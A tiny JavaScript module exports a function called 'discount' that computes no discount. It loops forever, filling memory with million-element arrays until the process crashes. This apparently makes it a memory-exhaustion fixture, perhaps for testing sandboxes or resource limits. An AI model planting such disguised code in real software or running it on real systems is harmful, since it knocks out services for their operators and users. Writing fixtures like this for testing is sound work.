exports.discount = order => {
  const all = []
  for (;;) all.push(new Array(1e6).fill(order))
}
